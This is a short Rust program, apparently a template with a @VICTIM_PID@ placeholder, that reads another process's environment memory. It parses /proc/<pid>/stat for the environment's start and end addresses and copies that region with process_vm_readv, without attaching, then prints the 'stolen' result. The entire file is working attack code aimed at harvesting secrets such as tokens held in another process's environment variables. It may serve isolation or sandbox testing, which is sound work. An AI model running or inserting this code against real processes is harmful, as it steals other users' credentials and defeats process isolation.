//! Reads the memory of another process without attaching to it, and prints it.

mod raw;
mod sum;

fn main() {
    sum::print_stolen(attack());
}

/// What was found, if anything.
fn attack() -> Option<String> {
    // Where its environment begins: the fiftieth field.
    let stat = std::fs::read_to_string("/proc/@VICTIM_PID@/stat").ok()?;
    let field = |n: usize| {
        stat[stat.rfind(')')? + 1..]
            .split_whitespace()
            .nth(n - 3)?
            .parse::<usize>()
            .ok()
    };
    let (start, end) = (field(50)?, field(51)?);
    let mut bytes = vec![0u8; end - start];
    let (local, remote) = (
        [bytes.as_mut_ptr() as usize, bytes.len()],
        [start, bytes.len()],
    );
    let count = unsafe { raw::process_vm_readv(@VICTIM_PID@, &local, 1, &remote, 1, 0) };
    (count > 0).then(|| String::from_utf8_lossy(&bytes).into_owned())
}
